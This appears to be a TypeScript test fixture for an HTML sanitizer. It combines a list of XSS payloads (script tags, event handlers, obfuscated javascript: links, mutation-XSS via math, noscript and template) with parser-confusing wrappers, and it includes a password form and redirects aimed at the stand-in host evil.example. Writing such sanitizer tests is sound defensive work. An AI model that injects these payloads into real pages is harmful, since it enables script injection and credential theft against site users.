const HARM = [
  '<script>alert(1)</script>',
  '<img src="x" onerror="alert(1)">',
  '<p onclick="alert(1)">Text</p>',
  '<details open ontoggle="alert(1)"><summary>More</summary></details>',
  '<style>p{color:red}</style>',
  '<p style="position:fixed">Over everything</p>',
  '<a href="javascript:alert(1)">Link</a>',
  '<a href=" javascript:alert(1)">Link</a>',
  '<a href="java\tscript:alert(1)">Link</a>',
  '<a href="java&NewLine;script:alert(1)">Link</a>',
  '<a href="JAVASCRIPT&colon;alert(1)">Link</a>',
  '<map><area href="javascript:alert(1)"></map>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<form action="https://evil.example"><input name="password"></form>',
  '<button form="search" formaction="https://evil.example">Search</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<svg><a href="#"><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
  '<math><mtext><p title="</mtext><img src=x onerror=alert(1)>">Text</p></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src="x" onerror="alert(1)"></template>',
] as const;

/** What makes a parser of documents leave out, move or read in another way what follows. */
const AROUND: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<frameset></frameset>${html}`,
  (html) => `<frameset><frame></frameset>${html}`,
  (html) => `<head></head>${html}`,
  (html) => `</body></html>${html}`,
  (html) => `<table>${html}</table>`,
  (html) => `<table><tr><td>${html}</td></tr></table>`,
  (html) => `<p><b>${html}`,
  (html) => `<!-- --!>${html}`,
];

/** HTML that no text has, in every place that parsers treat in their own way. */
export const hostileHtml: readonly string[] = HARM.flatMap((harm) =>
  AROUND.map((around) => around(harm)),
);
